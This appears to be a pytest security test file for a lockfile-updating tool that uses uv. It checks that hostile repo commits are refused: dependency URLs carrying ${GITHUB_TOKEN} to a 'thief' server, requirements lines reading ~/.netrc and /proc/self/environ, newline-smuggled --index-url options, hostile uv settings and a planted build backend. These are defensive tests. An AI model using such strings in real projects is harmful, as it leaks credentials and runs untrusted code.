"""A repo is other people's: relocking it shows its owner nothing of the machine, and runs nothing.

Each attack is made by a commit to the repo; uv is the real one, and the thief is a real server.
"""

from collections.abc import Callable

import pytest

from modelyard.reasons import NoticeReason
from modelyard.update.result import UpdateResult
from tests.tool.lockfiles.hostile import Scene
from tests.tool.wheels import wheel

PROJECT, LOCK = "pyproject.toml", "requirements.lock"
VARIABLE = "${GITHUB_TOKEN}"


def stale(result: UpdateResult, path: str = LOCK) -> tuple[NoticeReason, str]:
    (found,) = [one for one in result.notices if one.path == path and one.command]
    assert isinstance(found.reason, NoticeReason)
    assert found.command == "make lock"
    return found.reason, found.about


def locked(scene: Scene, path: str = LOCK) -> str:
    return (scene.repo / path).read_text()


DEPENDENCIES: dict[str, Callable[[str], str]] = {
    "a URL with a variable": lambda thief: (
        f"evil @ http://{thief}/{VARIABLE}/evil-1-py3-none-any.whl"
    ),
    "a variable as a host's login": lambda thief: (
        f"evil @ http://u:{VARIABLE}@{thief}/evil-1-py3-none-any.whl"
    ),
    "git": lambda thief: f"evil @ git+http://{thief}/{VARIABLE}",
    "a file of the machine": lambda thief: "evil @ file:///proc/self/environ",
    "a variable in a path": lambda thief: f"evil @ file:///tmp/{VARIABLE}/evil-1-py3-none-any.whl",
    "a line break and an option": lambda thief: f"evil\n--index-url http://{thief}/simple",
    "an arbitrary version": lambda thief: f"evil==={VARIABLE}",
}


TABLES = [(kind, "dependencies") for kind in DEPENDENCIES]


@pytest.mark.parametrize(
    ("kind", "table"), [*TABLES, ("a URL with a variable", "extra"), ("git", "group")]
)
def test_a_dependency_is_a_name_with_versions(scene: Scene, kind: str, table: str) -> None:
    scene.release()
    wanted = DEPENDENCIES[kind](scene.thief.address).replace("\n", "\\n")
    if table == "dependencies":
        edit = "    'one>=1',\n", f"    'one>=1',\n    \"{wanted}\",\n"
    else:
        head = {"extra": "[project.optional-dependencies]", "group": "[dependency-groups]"}[table]
        edit = "[project]\n", f'{head}\nx = ["{wanted}"]\n\n[project]\n'
    result = scene.attack({PROJECT: edit})
    scene.nothing_was_told(result)
    reason, about = stale(result)
    assert reason is NoticeReason.LOCK_REFUSED
    assert about.startswith("'evil' in ") and ("dependencies" in about or "groups" in about)


LINES = {
    "a file of the home": "-r ~/.netrc",
    "the environment": "-r /proc/self/environ",
    "a constraint of the machine": "-c /proc/self/environ",
    "an index": "--index-url http://THIEF/simple",
    "a login": "--extra-index-url http://u:${GITHUB_TOKEN}@THIEF/simple",
    "links": "--find-links http://THIEF/simple",
    "a URL": "evil @ http://THIEF/${GITHUB_TOKEN}/evil-1-py3-none-any.whl",
    "a URL alone": "http://THIEF/evil-1-py3-none-any.whl",
    "git": "git+http://THIEF/${GITHUB_TOKEN}#egg=evil",
    "an editable": "-e /tmp",
    "a folder": "./src",
    "a distribution to build": "./evil-1.tar.gz",
    "a path out of the repo": "../evil-1-py3-none-any.whl",
    "a continued option": "one==1.0 \\\n    --index-url http://THIEF/simple",
    "a range": "one>=1.0",
}


@pytest.mark.parametrize("kind", LINES)
def test_a_line_of_a_lock_is_a_pin(scene: Scene, kind: str) -> None:
    scene.release()
    line = LINES[kind].replace("THIEF", scene.thief.address)
    result = scene.attack({LOCK: ("one==1.0\n", f"one==1.0\n# a comment\n{line}\n")})
    scene.nothing_was_told(result)
    reason, about = stale(result)
    assert reason is NoticeReason.LOCK_REFUSED
    assert "line 3 of requirements.lock" in about


SETTINGS = {
    "index-url": 'index-url = "http://THIEF/simple"',
    "extra-index-url": 'extra-index-url = ["http://THIEF/simple"]',
    "find-links": 'find-links = ["http://THIEF/simple", "/proc/self"]',
    "index": '[[tool.uv.index]]\nname = "company"\nurl = "http://THIEF/simple"',
    "pip": '[tool.uv.pip]\nindex-url = "http://THIEF/simple"',
    "extra-build-dependencies": 'extra-build-dependencies = { one = ["evil"] }',
    "environments": "environments = [\"sys_platform == 'linux'\"]",
    "constraint-dependencies": 'constraint-dependencies = ["two @ http://THIEF/${GITHUB_TOKEN}"]',
    "override-dependencies": 'override-dependencies = ["two @ http://THIEF/${GITHUB_TOKEN}"]',
    "allow-insecure-host": 'allow-insecure-host = ["THIEF"]',
    "keyring-provider": 'keyring-provider = "subprocess"',
    "exclude-newer": 'exclude-newer = "2020-01-01"',
    "workspace": 'workspace = { members = ["/tmp/*"] }',
    "dependency-metadata": (
        'dependency-metadata = [{ name = "one", requires-dist = ["x @ http://THIEF/x.whl"] }]'
    ),
    "sources.two": 'sources = { two = { git = "http://THIEF/${GITHUB_TOKEN}" } }',
    "sources.one": 'sources = { one = { url = "http://THIEF/one-1.0-py3-none-any.whl" } }',
}
OUTSIDE = {
    "a folder outside": 'sources = { one = { path = "/etc" } }',
    "a workspace": "sources = { one = { workspace = true } }",
    "an index of its own": 'sources = { one = { index = "company" } }',
}


@pytest.mark.parametrize("setting", SETTINGS)
def test_a_setting_of_the_repo_never_reaches_uv(scene: Scene, setting: str) -> None:
    scene.release()
    text = SETTINGS[setting].replace("THIEF", scene.thief.address)
    text = text if text.startswith("[") else f"[tool.uv]\n{text}"
    result = scene.attack({PROJECT: ("[project]\n", f"{text}\n\n[project]\n")})
    scene.nothing_was_told(result)
    assert stale(result) == (NoticeReason.LOCK_REFUSED, f"tool.uv.{setting}")


@pytest.mark.parametrize("kind", OUTSIDE)
def test_a_source_is_a_wheel_of_the_repo(scene: Scene, kind: str) -> None:
    scene.release()
    result = scene.attack({PROJECT: ("[project]\n", f"[tool.uv]\n{OUTSIDE[kind]}\n\n[project]\n")})
    scene.nothing_was_told(result)
    assert stale(result) == (NoticeReason.LOCK_REFUSED, "tool.uv.sources.one")


def test_a_cache_is_where_the_machine_has_it(scene: Scene) -> None:
    scene.release()
    place = scene.world.folder / "chosen"
    edit = "[project]\n", f'[tool.uv]\ncache-dir = "{place}"\n\n[project]\n'
    result = scene.attack({PROJECT: edit})
    scene.nothing_was_told(result)
    assert not place.exists()
    assert locked(scene) == "one==1.0\ntwo==1.1\n"


def test_a_wheel_in_the_repo_names_no_address(scene: Scene) -> None:
    scene.release()
    address = f"two @ http://{scene.thief.address}/{VARIABLE}/two-1.0-py3-none-any.whl"
    sources = '[tool.uv.sources]\nmine = { path = "wheels/mine-1-py3-none-any.whl" }\n\n'
    result = scene.attack(
        {PROJECT: ("[project]\n", f"{sources}[project]\n")},
        files={"wheels/mine-1-py3-none-any.whl": wheel("mine", "1", [address])},
    )
    scene.nothing_was_told(result)
    about = "'two' in wheels/mine-1-py3-none-any.whl"
    assert stale(result) == (NoticeReason.LOCK_REFUSED, about)


def test_no_backend_of_the_repo_is_started(scene: Scene) -> None:
    scene.release()
    backend = '[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["."]\n'
    mark = scene.world.folder / "ran"
    edit = "[project]\n", f'{backend}\n[project]\ndynamic = ["dependencies"]\n'
    code = f"open({str(mark)!r}, 'w').close()\n"
    result = scene.attack({PROJECT: edit}, files={"b.py": code})
    scene.nothing_was_told(result)
    reason, about = stale(result)
    assert (reason, about) == (
        NoticeReason.LOCK_NEEDS_BUILD,
        "the project, for its dependencies,",
    )
    assert not mark.exists()


def test_what_comes_without_a_wheel_is_not_built(scene: Scene) -> None:
    scene.release()
    result = scene.attack({PROJECT: ("    'one>=1',\n", "    'one>=1',\n    'sdist-only',\n")})
    scene.nothing_was_told(result)
    assert stale(result)[0] is NoticeReason.LOCK_UNSATISFIABLE
    assert not (scene.world.folder / "built").exists()
